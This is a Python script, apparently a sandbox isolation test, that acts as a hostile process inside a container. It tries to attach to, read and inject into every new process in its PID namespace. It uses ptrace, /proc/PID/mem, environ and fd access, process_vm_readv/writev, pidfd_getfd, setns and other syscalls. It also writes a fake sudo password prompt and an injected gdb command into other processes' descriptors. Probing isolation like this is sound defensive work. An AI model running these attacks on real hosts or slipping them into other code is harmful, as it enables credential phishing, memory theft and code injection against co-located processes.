"""A hostile program of a target: tries to get into every process that comes into its PID namespace.

Runs in the target, with nothing but Python: `python3 -c TEXT`. It says "ready", then attacks what was not there before,
and ends at TERM with one JSON object: attacks by kind, those that got through, and what it read.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import platform
import signal
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
# asm/unistd.h of both architectures
PTRACE, PERF, KCMP, READV, WRITEV, MOVE_PAGES, ROBUST = (
    (117, 241, 272, 270, 271, 239, 100) if ARM else (101, 298, 312, 310, 311, 279, 274)
)
PIDFD_OPEN, PIDFD_GETFD, SETNS = 434, 438, 268 if ARM else 308
SEIZE, ATTACH, DETACH = 0x4206, 16, 17
LONGEST = 120.0  # seconds, if nobody tells it to end
PROMPT = b"\r\n[sudo] password for operator: "
COMMAND = b"\npython import os; os.system('id > /tmp/owned')\n"
FILES = ("mem", "environ", "auxv", "maps", "smaps", "pagemap", "stack", "syscall", "personality", "io", "numa_maps")
# Not counted: oom_score_adj, comm and their like, which root with DAC_OVERRIDE may write of any process. They end one
# or slow it at worst, as a signal does.
LINKS = ("root", "cwd", "exe", "ns/mnt", "ns/net", "ns/user", "ns/ipc")


def call(number: int, *arguments: object) -> int:
    """A system call; -errno where it fails."""
    done = LIBC.syscall(ctypes.c_long(number), *arguments)
    return -ctypes.get_errno() if done == -1 else int(done)


def opened(path: str, flags: int) -> int | None:
    """A descriptor, where the kernel gives one."""
    try:
        return os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC | os.O_NOCTTY)
    except OSError:
        return None


def reads(path: str) -> bool:
    """Whether a file of /proc gives a byte: some are opened first, and checked then."""
    fd = opened(path, os.O_RDONLY)
    if fd is None:
        return False
    try:
        return bool(os.pread(fd, 1, 0)) if not path.endswith("/mem") else True
    except OSError:
        return False
    finally:
        os.close(fd)


def traced(pid: int, request: int) -> bool:
    """By ptrace: who traces it makes it call what it likes."""
    if call(PTRACE, ctypes.c_long(request), ctypes.c_long(pid), None, None) < 0:
        return False
    if request == ATTACH:
        os.waitpid(pid, 0x40000000)  # __WALL
        call(PTRACE, ctypes.c_long(DETACH), ctypes.c_long(pid), None, None)
    return True


def descriptors(pid: int, flags: int, text: bytes = b"") -> bool:
    """Its open files by /proc: read them, or write what deceives."""
    through = False
    for number in (0, 1, 2, 3, 4, 9):
        fd = opened(f"/proc/{pid}/fd/{number}", flags)
        if fd is not None:
            through = True
            if text:
                with contextlib.suppress(OSError):
                    os.write(fd, text)
            os.close(fd)
    return through


def moved(pid: int, number: int) -> bool:
    """Memory by a system call: an address that is not mapped is said to him only who may ask."""
    buffer = ctypes.create_string_buffer(8)
    own = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    theirs = (ctypes.c_size_t * 2)(4096, 8)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    done = call(number, ctypes.c_long(pid), ctypes.byref(own), one, ctypes.byref(theirs), one, none)
    return done >= 0 or done == -errno.EFAULT


def taken(pid: int) -> bool:
    """A descriptor out of the process itself."""
    pidfd = call(PIDFD_OPEN, ctypes.c_long(pid), ctypes.c_ulong(0))
    if pidfd < 0:
        return False
    done = call(PIDFD_GETFD, ctypes.c_long(pidfd), ctypes.c_long(0), ctypes.c_ulong(0))
    os.close(pidfd)
    if done >= 0:
        os.close(done)
    return done >= 0 or done == -errno.EBADF


def joined(pid: int) -> bool:
    """Its mount namespace."""
    pidfd = call(PIDFD_OPEN, ctypes.c_long(pid), ctypes.c_ulong(0))
    if pidfd < 0:
        return False
    done = call(SETNS, ctypes.c_long(pidfd), ctypes.c_long(0x00020000))
    os.close(pidfd)
    return done >= 0


def compared(pid: int) -> bool:
    return call(KCMP, *(ctypes.c_long(each) for each in (os.getpid(), pid, 0, 0, 0))) >= 0


def measured(pid: int) -> bool:
    """What a profiler sees of it: perf_event_open(2), a software clock."""
    attributes = (ctypes.c_uint32 * 32)(1, 128)
    fd = call(PERF, ctypes.byref(attributes), ctypes.c_long(pid), *(ctypes.c_long(each) for each in (-1, -1, 0)))
    if fd >= 0:
        os.close(fd)
    return fd >= 0


def paged(pid: int) -> bool:
    pages, status = (ctypes.c_void_p * 1)(4096), (ctypes.c_int * 1)()
    words = (ctypes.c_long(pid), ctypes.c_ulong(1), ctypes.byref(pages), None, ctypes.byref(status), ctypes.c_long(0))
    return call(MOVE_PAGES, *words) >= 0


def listed(pid: int) -> bool:
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    return call(ROBUST, ctypes.c_long(pid), ctypes.byref(head), ctypes.byref(size)) >= 0


def followed(path: str) -> bool:
    try:
        os.readlink(path)  # noqa: PTH115 - it has to be quick
    except OSError:
        return False
    return True


def opens(path: str, flags: int) -> bool:
    """Whether the kernel gives a descriptor, which is given back."""
    fd = opened(path, flags)
    if fd is not None:
        os.close(fd)
    return fd is not None


def on(name: str, attack: Callable[[str], bool]) -> Callable[[int], bool]:
    """The attack on that file of a process."""
    return lambda pid: attack(f"/proc/{pid}/{name}")


ATTACKS: dict[str, Callable[[int], bool]] = {
    "ptrace: PTRACE_SEIZE": lambda pid: traced(pid, SEIZE),
    "ptrace: PTRACE_ATTACH": lambda pid: traced(pid, ATTACH),
    "/proc/PID/fd: read": lambda pid: descriptors(pid, os.O_RDONLY),
    "/proc/PID/fd: commands for gdb": lambda pid: descriptors(pid, os.O_WRONLY, COMMAND),
    "/proc/PID/fd: a false prompt": lambda pid: descriptors(pid, os.O_RDWR, PROMPT),
    **{f"/proc/PID/{name}: follow": on(name, followed) for name in LINKS},
    **{f"/proc/PID/{name}: read": on(name, reads) for name in FILES},
    "/proc/PID/mem: write": lambda pid: opens(f"/proc/{pid}/mem", os.O_WRONLY),
    "/proc/PID/root: files of the sidecar": lambda pid: opens(f"/proc/{pid}/root/tmp", os.O_RDONLY),
    "/proc/PID/task/TID/fd": lambda pid: opens(f"/proc/{pid}/task/{pid}/fd/1", os.O_WRONLY),
    "process_vm_readv": lambda pid: moved(pid, READV),
    "process_vm_writev": lambda pid: moved(pid, WRITEV),
    "pidfd_getfd": taken,
    "setns": joined,
    "kcmp": compared,
    "perf_event_open": measured,
    "move_pages": paged,
    "get_robust_list": listed,
}


def processes() -> set[int]:
    return {int(name) for name in os.listdir("/proc") if name.isdigit()}  # noqa: PTH208 - the same


def word(pid: int, name: str) -> str:
    try:
        with open(f"/proc/{pid}/{name}", "rb") as file:  # noqa: PTH123 - the same
            return file.read(1 << 20).decode(errors="replace")
    except OSError:
        return ""


def main() -> None:
    """Attack until the time is up."""
    before = processes()
    tried = dict.fromkeys(ATTACKS, 0)
    through: dict[str, list[str]] = {}
    names: set[str] = set()
    commands: set[str] = set()
    end = time.monotonic() + LONGEST
    told: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: told.append(number))
    print("ready", flush=True)
    while not told and time.monotonic() < end:
        for pid in processes() - before:
            for kind, attack in ATTACKS.items():
                comm = word(pid, "comm").strip()
                if not comm:
                    break
                tried[kind] += 1
                if attack(pid):
                    through.setdefault(kind, []).append(comm)
            names.add(word(pid, "comm").strip())
            commands.add(word(pid, "cmdline"))
    seen = {kind: sorted(set(each)) for kind, each in through.items()}
    print(json.dumps({"tried": tried, "through": seen, "names": sorted(names), "commands": sorted(commands)}))


main()
